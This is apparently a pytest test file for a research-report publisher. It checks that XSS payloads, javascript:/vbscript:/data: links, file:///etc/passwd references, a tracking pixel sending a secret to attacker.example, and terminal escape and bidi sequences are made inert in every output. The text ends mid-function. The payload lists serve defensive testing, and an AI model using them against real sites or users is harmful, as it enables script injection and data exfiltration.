"""Untrusted model output is inert in every output.

A report full of hostile markup (HTML and XSS payloads, remote images, javascript:/data:/
vbscript:/file: links in every markdown form, entities, refs carrying HTML, markdown in
table cells) is published; each markdown output (report.md, report.linked.md, and the
state's report_markdown from a research run) is rendered by a CommonMark renderer with raw
HTML allowed and no URL filter of its own, and every HTML is parsed: nothing may load,
run or send the reader anywhere but http(s), mailto, an anchor or a cited local file.
Legitimate content (citations, fragment links, code) must survive. Then random documents
built from the same payloads and markdown structure (fuzzing the code/text decisions),
idempotence, and the pathological inputs that used to freeze or fail a run.
"""

from __future__ import annotations

import asyncio
import json
import re
import random
from collections import deque
from html.parser import HTMLParser
from pathlib import Path

import markdown as md_lib
import pytest
from lxml import html as lxml_html
from markdown_it import MarkdownIt
from pypdf import PdfReader

from deep_research.citations.check import check_citations
from deep_research.citations.model import Source, Verdict
from deep_research.citations.refs import parse_refs
from deep_research.publish import publish_report
from deep_research.publish import safety
from deep_research.publish.safety import link_allowed, safe_markdown

ATTACKER = "https://attacker.example"
PAGE_TEA = (
    "Tea cultivation\n"
    "Tea plants grow best in acidic soil with a pH between 4.5 and 5.5.\n"
    "Harvesting usually starts when the plant is three years old.\n"
    "Use the <script> element with care, a page about HTML says.\n"
)
PAGE_LOCAL = "Local notes\nThe private memo was written in March.\n"

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '<iframe srcdoc="<script>alert(3)</script>"></iframe>',
    f'<meta http-equiv="refresh" content="0;url={ATTACKER}/">',
    f'<base href="{ATTACKER}/">',
    f"<style>body{{background:url({ATTACKER}/s.png)}}</style>",
    f'<form action="{ATTACKER}/"><input name=q><button>go</button></form>',
    "<svg onload=alert(8)><circle r=1 /></svg>",
    f'<object data="{ATTACKER}/x.swf"></object>',
    f'<embed src="{ATTACKER}/x.swf">',
    f'<link rel="stylesheet" href="{ATTACKER}/x.css">',
    '<a href="javascript:alert(12)">click</a>',
    '<div onmouseover="alert(13)">hover</div>',
    "<details open ontoggle=alert(14)>",
    "<video><source onerror=alert(15)></video>",
    '<math><mi xlink:href="javascript:alert(16)">x</mi></math>',
    "<!-- comment --><script>alert(17)</script>",
    "<textarea><script>alert(18)</script></textarea>",
    "<body onload=alert(19)>",
    "<input autofocus onfocus=alert(20)>",
    '<a href="&#106;avascript:alert(21)">x</a>',
    f'<img src="{ATTACKER}/pixel.gif?d=SECRET-CODENAME">',
    '<noscript><p title="</noscript><img src=x onerror=alert(23)>">',
    "<scr<script>ipt>alert(24)</script>",
    '<a href=" javascript:alert(25)">x</a>',
    "<![CDATA[<script>alert(27)</script>]]>",
    "<isindex type=image src=1 onerror=alert(28)>",
    "<marquee onstart=alert(29)>",
    '<table background="javascript:alert(30)"><tr><td>x</td></tr></table>',
    "<img src=x onerror=alert(31)//",
    "<?php echo 1 ?>",
    '<a href="vbscript:msgbox(33)">v</a>',
]
ENTITY_PAYLOADS = [
    "&lt;script&gt;alert(40)&lt;/script&gt;",
    "&#60;script&#62;alert(41)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(42)&#x3E;",
]
IMAGE_PAYLOADS = [
    f"![pixel]({ATTACKER}/p.png?d=SECRET-CODENAME)",
    f"![]({ATTACKER}/empty.png)",
    f"![spaced](<{ATTACKER}/p q.png>)",
    "![ref image][pix]",
    f"![nested [brackets]]({ATTACKER}/n.png)",
    f"[![inner]({ATTACKER}/i.png)](https://ok.example/outer)",
    f'![titled]({ATTACKER}/t.png "a title")',
]
LINK_PAYLOADS = [
    "[a](javascript:alert(50))", "[b](JaVaScRiPt:alert(51))", "[c](&#106;avascript:alert(52))",
    "[d](<javascript:alert(53)>)", "[e](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==)",
    "[f](vbscript:msgbox(55))", "[g](file:///etc/passwd)", "[h](../../secret.txt)",
    f"[i](//{ATTACKER[8:]}/proto)", "[j](java&#x09;script:alert(59))",
    "[r1][bad]", "[r2][badfile]", "[r3][baddata]", "[r4]", "[pix]",
    "<javascript:alert(60)>", "<vbscript:x>", "<data:text/html,x>", "<file:///etc/passwd>",
    "<JAVASCRIPT:alert(61)>",
]
DEFINITIONS = (
    "[bad]: javascript:alert(70)\n"
    "[badfile]: <file:///etc/shadow>\n"
    "[baddata]: data:text/html,<script>alert(72)</script> \"t\"\n"
    "[r4]: vbscript:msgbox(73)\n"
    f"[pix]: {ATTACKER}/q.png\n"
)
REF_PAYLOADS = [
    '<ref id="tea">"<img src=x onerror=alert(80)>"</ref>',
    '<ref id="tea" onclick="alert(81)">"Tea plants grow best in acidic soil."</ref>',
    '<ref id="tea"><script>alert(82)</script></ref>',
    '<ref id="<script>">"x"</ref>',
    "<ref id='a\" onmouseover=\"alert(84)'>\"x\"</ref>",
    "<ref id=\"tea\">\"![q](https://attacker.example/q.png) and [j](javascript:alert(85))\"</ref>",
]


def hostile_report(local_url: str, other_local_url: str) -> str:
    body = "\n".join(f"Payload {i}: {p} end.\n" for i, p in enumerate(HTML_PAYLOADS))
    return (
        "# Hostile report\n\n"
        "Tea likes acid soil <ref id=\"tea\">\"Tea plants grow best in acidic soil with a pH between 4.5 and 5.5.\"</ref>.\n"
        "A page warns <ref id=\"tea\">\"Use the <script> element with care, a page about HTML says.\"</ref>\n"
        f"The memo date <ref id=\"local\">\"The private memo was written in March.\"</ref> "
        f"([the memo]({local_url})), not [the other file]({other_local_url}).\n\n"
        + body + "\n"
        + "Entities: " + " ".join(ENTITY_PAYLOADS) + "\n\n"
        + "Images: " + " ".join(IMAGE_PAYLOADS) + "\n\n"
        + "Links: " + ", ".join(LINK_PAYLOADS) + " and a good [ok](https://ok.example/page) "
        "and <https://ok.example/auto> and <mailto:editor@example.org>.\n\n"
        + DEFINITIONS + "\n"
        + "Refs: " + " ".join(REF_PAYLOADS) + "\n\n"
        "<div>\n\n*markdown inside* <script>alert(90)</script>\n\n</div>\n\n"
        "| code | html | image | link |\n|---|---|---|---|\n"
        f"| `<b>` | <script>alert(91)</script> | ![t]({ATTACKER}/t.png) | [j](javascript:alert(92)) |\n"
        "| `a|<img src=x onerror=alert(93)>` | <ref id=\"tea\">\"Harvesting usually starts when the plant is three years old.\"</ref> | x | y |\n\n"
        "```html\n<script>alert('code')</script>\n```\n\n"
        "Inline code `<img src=x onerror=alert('span')>` stays code.\n\n"
        "> quoted <iframe src=\"javascript:alert(94)\"></iframe>\n"
        "> - nested ![n](https://attacker.example/nested.png)\n\n"
        "- item `code\n  over two lines <b>` and <script>alert(95)</script>\n"
        "    <img src=x onerror=alert(96)>\n\n"
        "    indented <script>alert(97)</script>\n"
    )


BANNED_TAGS = {"script", "img", "iframe", "object", "embed", "meta", "base", "link", "style", "form",
               "svg", "math", "video", "audio", "source", "frame", "frameset", "input", "button",
               "textarea", "select", "isindex", "marquee", "body", "html", "head", "noscript", "template",
               "applet", "image", "picture", "track", "portal"}
URL_ATTRS = {"src", "srcset", "srcdoc", "data", "action", "formaction", "poster", "background", "lowsrc",
             "dynsrc", "xlink:href", "ping", "cite", "longdesc", "manifest", "codebase", "archive"}


class _Tags(HTMLParser):
    """Every start tag with its attributes, as a browser's tokenizer sees them (no tree
    building that could move or drop a misplaced tag)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def dangers(html: str, local_files: frozenset[str], *, body_only: bool = False) -> list[str]:
    """Everything in ``html`` that could run, load or send the reader somewhere unsafe:
    checked on the token stream and on the tree lxml builds."""
    if body_only:  # a whole report.html: the template's <head> (its own <style>) is ours
        body = lxml_html.document_fromstring(html).find("body")
        html = "".join(lxml_html.tostring(child, encoding="unicode") for child in body)
    parser = _Tags()
    parser.feed(html)
    parser.close()
    tree = lxml_html.fragment_fromstring(html, create_parent="div")
    elements = [(el.tag, list(el.attrib.items())) for el in tree.iter() if isinstance(el.tag, str)][1:]
    found = []
    for tag, attrs in parser.tags + elements:
        tag = tag.lower()
        if tag in BANNED_TAGS:
            found.append(f"<{tag}>")
        for k, v in attrs:
            k, v = k.lower(), v or ""
            if k.startswith("on"):
                found.append(f"{tag} {k}=")
            if k in URL_ATTRS or k.endswith("}href"):
                found.append(f"{tag} {k}={v[:40]}")
            if k == "href" and not link_allowed(v, local_files):
                found.append(f"href={v[:60]}")
            if k == "style" and "url(" in v.lower():
                found.append(f"style={v[:40]}")
    return found


def commonmark() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True, "maxNesting": 100}).enable("table")
    md.validateLink = lambda url: True  # no help from the renderer: the markdown itself must be safe
    return md


def renderings(markdown_text: str) -> dict[str, str]:
    return {"commonmark": commonmark().render(markdown_text),
            "python-markdown": md_lib.markdown(markdown_text, extensions=["tables", "fenced_code"])}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    local = tmp / "corpus" / "memo.html"
    other = tmp / "corpus" / "other.html"
    local.parent.mkdir()
    local.write_text(PAGE_LOCAL)
    other.write_text("Other\nNot cited.\n")
    sources = [Source("tea", "https://example.org/tea", PAGE_TEA, "Tea", "text"),
               Source("local", local.as_uri(), PAGE_LOCAL, "Memo", "text"),
               Source("other", other.as_uri(), "Other\nNot cited.\n", "Other", "text")]
    report = hostile_report(local.as_uri(), other.as_uri())
    result = publish_report(report, sources, tmp / "out", pdf=True)
    allowed = safety.local_file_urls(result.report.sources)
    return {"report": report, "sources": sources, "result": result, "allowed": allowed,
            "local": local.as_uri(), "other": other.as_uri()}


def test_the_cited_local_file_is_the_only_allowed_file(hostile):
    assert hostile["allowed"] == {hostile["local"].lower()}


@pytest.mark.parametrize("output", ["markdown", "linked"])
def test_markdown_outputs_render_inert(hostile, output):
    text = hostile["result"].files[output].read_text()
    for renderer, html in renderings(text).items():
        assert dangers(html, hostile["allowed"]) == [], (output, renderer)
    # and the payloads are still there for a reader to see, as text
    rendered = commonmark().render(text)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered
    assert "SECRET-CODENAME" in rendered  # shown, never fetched


def test_html_and_pdf_are_inert(hostile):
    html = hostile["result"].files["html"].read_text()
    assert dangers(html, hostile["allowed"], body_only=True) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # raw HTML shown as text
    assert f'href="{ATTACKER}/p.png?d=SECRET-CODENAME"' in html  # the image became a link
    assert hostile["other"] not in [a.get("href") for a in lxml_html.fromstring(html).iter("a")]
    uris, scripts = [], []
    for page in PdfReader(str(hostile["result"].files["pdf"])).pages:
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A") or {}
            if action.get("/URI"):
                uris.append(str(action["/URI"]))
            if action.get("/S") in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData"):
                scripts.append(action)
    assert uris and not scripts
    assert [u for u in uris if not link_allowed(u, hostile["allowed"])] == []
    assert any(u.startswith(hostile["local"]) for u in uris)  # the cited local file stays a link


def test_legitimate_content_survives(hostile):
    result = hostile["result"]
    ui = result.files["markdown"].read_text()
    # every well-formed ref is still a ref in report.md, and verifies as before
    before = [(c.ref.source_id, c.status) for c in result.report.citations]
    again = check_citations(ui, hostile["sources"])
    assert [(c.ref.source_id, c.status) for c in again.citations] == before
    assert sum(s is Verdict.VERIFIED for _, s in before) >= 4
    assert re.search(r'<ref id="tea"(?: check="[a-z-]+" note="[^"<>]*")?>"Use the &lt;script> element with care, '
                     r'a page about HTML says\."</ref>', ui), ui
    # fragment links
    linked = result.files["linked"].read_text()
    assert "](https://example.org/tea#:~:text=" in linked
    assert f"]({hostile['local']}#:~:text=" in linked
    assert f"[the memo]({hostile['local']})" in linked  # a link to the cited local file stays
    # code shows its text, in every output
    for text in (ui, linked):
        rendered = commonmark().render(text)
        codes = [el.text_content() for el in lxml_html.fromstring(f"<div>{rendered}</div>").iter("code")]
        assert "<script>alert('code')</script>\n" in codes
        assert "<img src=x onerror=alert('span')>" in codes
        assert "code over two lines <b>" in codes  # a code span over two lines, joined
    html = result.files["html"].read_text()
    pres = [el.text_content() for el in lxml_html.fromstring(html).iter("pre")]  # highlighted code: spans
    assert any("<script>alert('code')</script>" in p for p in pres), pres
    assert '<a href="https://ok.example/page"' in html and '<a href="https://ok.example/auto"' in html


def test_audit_and_summary_say_what_was_changed(hostile):
    audit = json.loads(hostile["result"].files["audit"].read_text())
    policy = audit["output_policy"]
    assert policy["html_escaped"] >= 30
    assert policy["images_unlinked"] >= 5
    assert policy["links_defused"] >= 15
    # the table row whose code span holds "|" has a cell more than its header: its "|" are text
    assert [d["reason"].split(":")[0] for d in policy["degraded"]] == [
        "1 table row(s) with more cells than their header (a renderer drops the extra cells)"]


def test_the_state_report_markdown_of_a_research_run_is_inert(tmp_path):
    from langchain_core.messages import HumanMessage
    from langgraph.checkpoint.memory import InMemorySaver
    from langgraph.store.memory import InMemoryStore

    from deep_research.research.runtime.deps import Deps
    from deep_research.research.graph import make_graph
    from deep_research.search.local import LocalCorpus, build_index
    from tests.support.scenario import QUESTION, final_report, full_script, write_corpus
    from tests.support.scripted import scripted_factory

    corpus = write_corpus(tmp_path / "corpus")
    build_index(corpus, base_url="http://127.0.0.1:8765/")
    script = full_script(wrong_quote=False)
    rule = next(r for r in script.rules if r["contains"] == "Write the final research report")
    honest = final_report(False)
    tail = hostile_report("file:///nowhere/memo.html", "file:///etc/passwd").split("\n", 2)[2]
    rule["responses"] = deque([lambda messages: honest(messages).replace("## Conclusion", tail + "\n## Conclusion")])
    deps = Deps(model_factory=scripted_factory(script), search_factory=lambda cfg: LocalCorpus.open(corpus))
    graph = make_graph(deps, checkpointer=InMemorySaver(), store=InMemoryStore())
    config = {"configurable": {"thread_id": "hostile"}}
    context = {"search_api": "local", "output_dir": str(tmp_path / "reports")}
    seen: list[str] = []

    async def run():
        async for _, update in graph.astream({"messages": [HumanMessage(QUESTION)]}, config, context=context,
                                             stream_mode="updates", subgraphs=True):
            for node_update in (update or {}).values():
                if isinstance(node_update, dict) and node_update.get("report_markdown"):
                    seen.append(node_update["report_markdown"])
        return await graph.aget_state(config)

    state = asyncio.run(run())
    v = state.values
    assert v["status"] == "completed", v.get("errors")
    assert len(seen) == 2  # set by check_citations, then by publish
    for text in seen:
        assert "<ref id=" in text and len(parse_refs(text).refs) >= 8
        for renderer, html in renderings(text).items():
            assert dangers(html, frozenset()) == [], renderer
    assert v["citation_summary"]["verified"] >= 8


# --- random documents: the code/text decision under fuzzing ---------------------------------
PIECES = (HTML_PAYLOADS + ENTITY_PAYLOADS + IMAGE_PAYLOADS + LINK_PAYLOADS + REF_PAYLOADS
          + ["`", "``", "`x`", "``a`b``", "\\`", "[", "]", "](", "](x`", "[x](<", "<", ">", "|", "\\",
             "text", "more words", '"', "'", "(", ")", "![", "<ref id=\"tea\">", "</ref>", "&", "~~~"])
PREFIXES = ["", "", "", "> ", "- ", "1. ", "2) ", "  ", "    ", "\t", "> > ", "- > ", "```", "~~~", "```js",
            "# ", "| ", "|---|---|", "---", "==="]


def random_doc(rng: random.Random) -> str:
    lines = []
    for _ in range(rng.randint(1, 10)):
        if rng.random() < 0.15:
            lines.append("")
            continue
        lines.append(rng.choice(PREFIXES) + " ".join(rng.choice(PIECES) for _ in range(rng.randint(0, 4))))
    lines.append(rng.choice(DEFINITIONS.splitlines()))
    return "\n".join(lines)


@pytest.mark.parametrize("seed", range(8))
def test_random_hostile_documents_render_inert(seed):
    rng = random.Random(seed)
    cm = commonmark()
    for _ in range(150):
        doc = random_doc(rng)
        for keep_refs in (False, True):
            out = safe_markdown(doc, keep_refs=keep_refs).text
            assert dangers(cm.render(out), frozenset()) == [], (doc, out)
            assert safe_markdown(out, keep_refs=keep_refs).text == out, (doc, out)  # idempotent


def test_ordinary_markdown_is_left_alone():
    doc = ("# Title\n\nText with *emphasis*, `code`, a [link](https://example.org/a_(b)) and a\n"
           "[reference][r] and <https://example.org/auto>, 3 < 4 and 5 > 2.\n\n"
           "- item\n  - nested with `a <b>` code\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | `x` |\n\n"
           "```python\nif a < b:\n    print('<ok>')\n```\n\n[r]: https://example.org/r \"title\"\n"
           "Text <ref id=\"1\">\"A quote.\"</ref> and an anchor [up](#title).\n")
    assert safe_markdown(doc, keep_refs=True).text == doc


# --- pathological inputs --------------------------------------------------------------------
def _nested_list(depth: int) -> str:
    return "".join("  " * i + f"- level {i} <b>\n" for i in range(depth))


PATHOLOGICAL = {
    "backtick runs 1..340": " ".join("`" * i for i in range(1, 341)),
    "20,000 [": "[" * 20000,
    "20,000 ![": "![" * 20000,
    "15,000 [a](": "[a](" * 15000,
    "list nested 800 deep": _nested_list(800),
    "quotes nested 800 deep": "".join(">" * i + " x\n" for i in range(1, 801)),
    "800 > on one line": ">" * 800 + " deep\n",
    "10,000 <ref openers": "<ref " * 10000,
    "10,000 unclosed refs": '<ref id="tea">"Tea plants ' * 5000,
    "60 KB of *": "*" * 60000,
    "60 KB of quote marks": '"' * 60000,
    "20,000 <a": "<a " * 20000,
    "brackets nested 5,000 deep": "[" * 5000 + "x" + "]" * 5000 + "(https://example.org/)",
}


@pytest.mark.parametrize("name", list(PATHOLOGICAL))
def test_pathological_input_is_published(tmp_path, name):
    good = 'Harvesting usually starts when the plant is three years old <ref id="tea">"Harvesting usually starts when the plant is three years old."</ref>.\n\n'
    md = "# Degenerate\n\n" + good + PATHOLOGICAL[name] + "\n\n" + good
    src = [Source("tea", "https://example.org/tea", PAGE_TEA, "Tea", "text")]
    result = publish_report(md, src, tmp_path, pdf=False)
    statuses = [c.status for c in result.report.citations]
    assert statuses[0] is Verdict.VERIFIED and statuses[-1] is Verdict.VERIFIED
    html = result.files["html"].read_text()
    if len(md) > safety.MAX_RENDER_CHARS:  # HTML and PDF show the first part (and say so)
        assert html.count('class="cite verified"') == 1 and "too long to show here" in html
    else:
        assert html.count('class="cite verified"') == 2
    for key in ("markdown", "linked"):
        text = result.files[key].read_text()
        assert dangers(commonmark().render(text), frozenset()) == []
    assert dangers(html, frozenset(), body_only=True) == []


def test_deep_nesting_is_shown_as_code_and_audited(tmp_path):
    src = [Source("tea", "https://example.org/tea", PAGE_TEA, "Tea", "text")]
    md = "# Deep\n\nBefore.\n\n" + _nested_list(300) + "\nAfter <script>x</script>.\n"
    result = publish_report(md, src, tmp_path, pdf=True)
    audit = json.loads(result.files["audit"].read_text())
    (degraded,) = audit["output_policy"]["degraded"]
    assert degraded["line"] == 5 and "256 or more deep (more than 16)" in degraded["reason"]
    assert "shown as code" in degraded["reason"]
    html = result.files["html"].read_text()
    assert "- level 299 &lt;b&gt;" in html  # in a code block, escaped by the renderer
    assert "<p>After &lt;script&gt;x&lt;/script&gt;.</p>" in html
    assert result.files["pdf"].stat().st_size > 1000


def test_a_paragraph_dense_with_markup_is_code_in_html_only(tmp_path):
    """Python-Markdown rebuilds a paragraph for every inline match: 20,000 escapes in one
    paragraph took seconds. The HTML shows such a paragraph as code; report.md keeps it."""
    src = [Source("tea", "https://example.org/tea", PAGE_TEA, "Tea", "text")]
    md = "# Dense\n\nBefore.\n\n" + "\\* " * 20000 + "\n\nAfter.\n"
    result = publish_report(md, src, tmp_path, pdf=False)
    html = result.files["html"].read_text()
    # as one tall block (publish/html.py tall_code_blocks: it may break across pages)
    assert re.search(r'<pre class="tall">(?:<span></span>)?<code>\\\* \\\* ', html) and "<p>After.</p>" in html
    assert "\\* \\* \\*" in result.files["markdown"].read_text()
    (degraded,) = json.loads(result.files["audit"].read_text())["output_policy"]["degraded"]
    assert degraded["line"] == 5 and "HTML and PDF show the block as code" in degraded["reason"]


def test_tables_past_the_cell_budget_are_code_in_html_and_word(tmp_path):
    """WeasyPrint lays a table out at some 4 ms and 20 KB a cell: a hostile report of one
    100 KB table (50,000 one-letter cells) took 112 s and 1 GB to publish, and the 500,000
    characters HTML and PDF show could hold five times that. Tables count against one budget
    of cells; the table that would pass it is shown as code (a later small one still is a
    table), report.md keeps it, and audit.json says why."""
    src = [Source("tea", "https://example.org/tea", PAGE_TEA, "Tea", "text")]
    small = "| Tea | Origin |\n|---|---|\n| Sencha | Japan |\n"
    huge = "|" + "|".join(f"h{j}" for j in range(60)) + "|\n|" + "---|" * 60 + "\n" + \
        "".join("|" + "|".join(f"r{i}c{j}" for j in range(60)) + "|\n" for i in range(100))
    md = "# Tables\n\nBefore.\n\n" + small + "\nBetween.\n\n" + huge + "\nAfter.\n\n" + small
    result = publish_report(md, src, tmp_path, pdf=False, docx=True)
    html = result.files["html"].read_text()
    assert html.count("<table") == 2 and "<td>Sencha</td>" in html
    assert re.search(r'<pre class="tall">(?:<span></span>)?<code>\|h0\|h1\|', html) and "<td>r99c59</td>" not in html
    assert "|r99c0|r99c1|" in result.files["markdown"].read_text()
    (degraded,) = json.loads(result.files["audit"].read_text())["output_policy"]["degraded"]
    assert degraded["line"] == 11 and "a table of about 6," in degraded["reason"]
    assert "HTML and PDF show the block as code" in degraded["reason"]
    import docx

    assert len(docx.Document(str(result.files["docx"])).tables) == 2


def test_a_recursion_error_in_the_renderer_never_reaches_the_user(tmp_path, monkeypatch):
    monkeypatch.setattr(safety, "MAX_NESTING", 10**6)  # let the deep list through to Python-Markdown
    src = [Source("tea", "https://example.org/tea", PAGE_TEA, "Tea", "text")]
    md = "# Deep\n\n" + "".join("    " * i + "- x\n" for i in range(1200))
    result = publish_report(md, src, tmp_path, pdf=False)
    assert "- x" in result.files["html"].read_text()


def test_an_overlong_report_is_cut_for_html_with_a_note(tmp_path, monkeypatch):
    monkeypatch.setattr(safety, "MAX_RENDER_CHARS", 5000)
    src = [Source("tea", "https://example.org/tea", PAGE_TEA, "Tea", "text")]
    md = "# Long\n\n" + "".join(f"Paragraph {i} of the long report.\n\n" for i in range(400))
    result = publish_report(md, src, tmp_path, pdf=False)
    html = result.files["html"].read_text()
    assert "Paragraph 10 " in html and "Paragraph 399 " not in html
    assert "is too long to show here; it is in report.md" in html
    assert "Paragraph 399 " in result.files["markdown"].read_text()
    audit = json.loads(result.files["audit"].read_text())
    assert "HTML and PDF show the first part" in audit["output_policy"]["degraded"][-1]["reason"]


def test_publishing_the_worst_input_lets_the_event_loop_run(tmp_path):
    """The worst input runs in a worker thread (as the research graph does) while the
    event loop keeps ticking: no pass holds the GIL for long."""
    src = [Source("tea", "https://example.org/tea", PAGE_TEA, "Tea", "text")]
    md = "# Worst\n\n" + "\n\n".join(PATHOLOGICAL.values())
    ticks = 0

    async def main():
        nonlocal ticks
        done = asyncio.Event()

        async def ticker():
            nonlocal ticks
            while not done.is_set():
                await asyncio.sleep(0.005)
                ticks += 1

        task = asyncio.create_task(ticker())
        try:
            return await asyncio.to_thread(publish_report, md, src, tmp_path, pdf=False)
        finally:
            done.set()
            await task

    result = asyncio.run(main())
    assert ticks > 0
    assert result.files["html"].stat().st_size > 0


def test_cli_publish_warns_about_what_was_made_inert(tmp_path):
    import subprocess
    import sys

    report = tmp_path / "r.md"
    report.write_text('# T\n\nOk <ref id="tea">"Tea plants grow best in acidic soil with a pH between 4.5 and 5.5."</ref>\n\n'
                      f"<script>alert(1)</script> ![x]({ATTACKER}/p.png) [j](javascript:alert(1))\n\n"
                      + _nested_list(40))
    sources = tmp_path / "s.json"
    sources.write_text(json.dumps([{"id": "tea", "url": "https://example.org/tea", "title": "Tea",
                                    "content": PAGE_TEA}]))
    r = subprocess.run([sys.executable, "-m", "deep_research.cli", "publish", str(report), "--sources",
                        str(sources), "--out", str(tmp_path / "o"), "--no-pdf"],
                       capture_output=True, text=True, timeout=300, cwd=Path(__file__).parents[2])
    assert r.returncode == 0, r.stderr
    assert "Traceback" not in r.stderr
    assert "2 HTML tag(s) shown as text" in r.stderr and "1 image(s) turned into links" in r.stderr
    assert "1 unsafe link(s) shown as text" in r.stderr
    assert "nested 40 deep" in r.stderr


# --- terminal controls and bidi overrides -----------------------------------------------------------
# What a terminal (cat, less -R, a pager in a CI log) acts on instead of showing: an escape
# sequence that clears the screen, retitles the window or prints a hyperlink to an internal
# address, a C1 CSI, a lone carriage return that overwrites its line, and bidi overrides
# and isolates that show text in another order than it is read ("Trojan source").
TERMINAL = ("\x1b[2J\x1b]0;pwned\x07 \x9b31m \x1b]8;;http://127.0.0.1:9/x\x1b\\link\x1b]8;;\x1b\\ "
            "A\rB \u202etxet\u202c \u2066iso\u2069 \x00\x08")
ACTING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)")


def test_terminal_controls_and_bidi_overrides_reach_no_output(tmp_path):
    """From the model's text (prose, a heading, a table cell, code) and from a page's
    title, author and site name: every file shows them as escapes; ordinary format
    characters (a right-to-left mark, an emoji's zero-width joiner) stay."""
    keep = "\u05e9\u05dc\u05d5\u05dd\u200f \U0001f469\u200d\U0001f4bb"
    sources = [Source("tea", "https://example.org/tea", PAGE_TEA, f"Tea {TERMINAL}", "text",
                      author=f"A {TERMINAL}", site_name=f"S {TERMINAL}")]
    md = (f"# Title {TERMINAL}\n\n"
          f'Tea likes acid soil {TERMINAL} {keep} <ref id="tea">"Tea plants grow best in acidic soil with a pH '
          'between 4.5 and 5.5."</ref>.\n\n'
          f"| a | b |\n|---|---|\n| {TERMINAL} | x |\n\n```\ncode {TERMINAL}\n```\n\nInline `{TERMINAL}` code.\n")
    result = publish_report(md, sources, tmp_path / "out", pdf=False, docx=True)
    texts = {k: p.read_text(encoding="utf-8") for k, p in result.files.items() if k != "docx"}
    import zipfile

    with zipfile.ZipFile(result.files["docx"]) as z:
        texts["docx"] = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
    for name, text in texts.items():
        assert not ACTING.findall(text), (name, sorted(set(ACTING.findall(text))))
    for name in ("markdown", "linked", "html"):
        assert "\\x1b" in texts[name] and "\\u202e" in texts[name], name  # shown, not dropped
        assert keep in texts[name], name
    for name in ("citations", "audit"):  # JSON: the same values, written as escapes
        assert "\\u202etxet" in texts[name], name
        assert "\u202etxet" in json.dumps(json.loads(texts[name]), ensure_ascii=False), name


def test_the_state_markdown_of_a_quote_with_controls_verifies_as_the_report_did():
    """The state's report_markdown (safe_markdown) is what a run publishes: a quote a page
    holds with its control characters must verify there as it did in the report (the
    escapes are for the files a person opens, not for the text checked again)."""
    page = "Lab notes\nThe lab shows ANSI \x1b[31mred\x1b[0m and \x92more\x92 text in this sentence.\n"
    src = [Source("lab", "https://example.org/lab", page, "Lab", "text")]
    md = '# T\n\nThe lab shows red <ref id="lab">"The lab shows ANSI \x1b[31mred\x1b[0m and \x92more\x92 text in this sentence."</ref>.\n'
    before = check_citations(md, src).citations[0].status
    after = check_citations(safe_markdown(md, keep_refs=True).text, src).citations[0].status
    assert before is Verdict.VERIFIED and after is Verdict.VERIFIED


def test_report_md_with_a_quote_holding_controls_publishes_again_with_the_quote_found(tmp_path):
    """report.md is the source for publishing again: its quote shows no control character
    (a space stands for each) and is still found on the page, never marked not found."""
    page = "Lab notes\nThe lab shows ANSI \x1b[31mred\x1b[0m and \x92more\x92 text in this sentence.\n"
    src = [Source("lab", "https://example.org/lab", page, "Lab", "text")]
    md = ('# T\n\nThe lab shows red <ref id="lab">"The lab shows ANSI \x1b[31mred\x1b[0m and \x92more\x92 text '
          'in this sentence."</ref>.\n')
    first = publish_report(md, src, tmp_path / "a", pdf=False)
    report_md = first.files["markdown"].read_text(encoding="utf-8")
    assert not ACTING.findall(report_md)
    again = publish_report(report_md, src, tmp_path / "b", pdf=False)
    assert first.report.citations[0].status is Verdict.VERIFIED
    assert again.report.citations[0].check.found, again.report.citations[0].status
    # and keeps its first verdict: the page's controls read as the spaces report.md writes
    # for them (publishing again was "repaired": "differs only in punctuation")
    assert again.report.citations[0].status is Verdict.VERIFIED, again.report.citations[0].check.note
    third = publish_report(again.files["markdown"].read_text(encoding="utf-8"), src, tmp_path / "c", pdf=False)
    assert third.files["markdown"].read_text(encoding="utf-8") == again.files["markdown"].read_text(encoding="utf-8")


@pytest.mark.parametrize("code", [c for c in [*range(0x00, 0x20), *range(0x7F, 0xA0)] if c != 0x0A])
def test_every_c0_and_c1_control_in_a_quote_verifies_again_from_report_md(tmp_path, code):
    """A quote holding any C0 or C1 control (at its start, inside a word, doubled between
    words, before its stop) is verified, and verified again when report.md is published
    once more: report.md writes a space for each, and the check reads the page's control
    as that space (never "repaired"). A line feed is left out: two end the paragraph."""
    c = chr(code)
    sentence = f"{c}The lab shows ANSI{c}red and more{c}{c}text in this sentence here{c}."
    src = [Source("lab", "https://example.org/lab", f"Lab notes\n{sentence}\n", "Lab", "text")]
    md = f'# T\n\nThe lab shows red <ref id="lab">"{sentence}"</ref>.\n'
    first = publish_report(md, src, tmp_path / "a", pdf=False)
    again = publish_report(first.files["markdown"].read_text(encoding="utf-8"), src, tmp_path / "b", pdf=False)
    assert first.report.citations[0].status is Verdict.VERIFIED, first.report.citations[0].check.note
    assert again.report.citations[0].status is Verdict.VERIFIED, again.report.citations[0].check.note


def test_a_huge_source_title_is_bounded_in_every_output(tmp_path):
    """A sources file (handed over with a run folder) whose title, author or site name held
    hundreds of kilobytes put them whole into each output and each citation of
    citations.json (a 50-page PDF). They are cut to MAX_TITLE_CHARS with an ellipsis."""
    from deep_research.terminal import MAX_TITLE_CHARS

    huge = "Tea " * 50_000
    src = [Source("tea", "https://example.org/tea", PAGE_TEA, huge, "text", author=huge, site_name=huge)]
    md = '# Tea\n\nTea likes acid soil <ref id="tea">"Tea plants grow best in acidic soil with a pH between 4.5 and 5.5."</ref>.\n'
    result = publish_report(md, src, tmp_path / "out", pdf=False, citation_style="apa")
